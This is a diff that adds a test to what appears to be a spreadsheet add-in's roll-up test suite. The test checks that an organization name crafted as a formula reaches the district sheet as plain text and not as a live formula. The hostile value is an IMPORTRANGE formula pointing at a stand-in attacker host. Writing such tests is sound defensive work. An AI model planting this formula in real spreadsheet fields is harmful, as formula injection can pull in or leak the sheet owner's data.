@@ -288,3 +288,37 @@ describe('the province: a roll-up of district roll-ups', () => {
     expect(block[0]?.slice(0, 3)).toEqual([ROLLUP_MARK, 1, 'province']);
   });
 });
+
+describe('an organization whose name is a formula', () => {
+  it('reaches the district’s roll-up tab and block as text, never as a formula', () => {
+    const registry = new WorkbookRegistry();
+    const hostileName = '=IMPORTRANGE("https://evil.example", "A1")';
+    const org = office({ ...PROFILE, organization: hostileName }, 'hostile');
+    const d = office(DISTRICT_PROFILE, 'district');
+    registry.add(org.workbook);
+    registry.add(d.workbook);
+    value(org.api.updateSummary());
+    registry.share(org.id, d.id);
+    registry.allowAccess(d.id, org.id);
+    value(d.api.updateRollup({}));
+    listLinks(d.workbook, [['', org.link]]);
+
+    // Arabic digits, so the name reads back exactly as the organization typed it.
+    const answer = value(d.api.updateRollup({ thaiDigits: false }));
+
+    expect(answer.ranked.map((o) => o.organization)).toEqual([hostileName]);
+    for (const sheet of d.workbook.getSheets()) {
+      const formulas = sheet
+        .getDataRange()
+        .getFormulas()
+        .flat()
+        .filter((f) => f !== '');
+      // The add-in's own imports are the only formulas in the district's spreadsheet.
+      expect(
+        formulas.every((f) => f.startsWith('=IMPORTRANGE("https://docs.google.com/spreadsheets/d/')),
+      ).toBe(true);
+    }
+    const tab = d.workbook.getSheets().find((s) => s.getSheetId() === answer.rollupSheetId)!;
+    expect(tab.getDataRange().getValues().flat()).toContain(hostileName);
+  });
+});
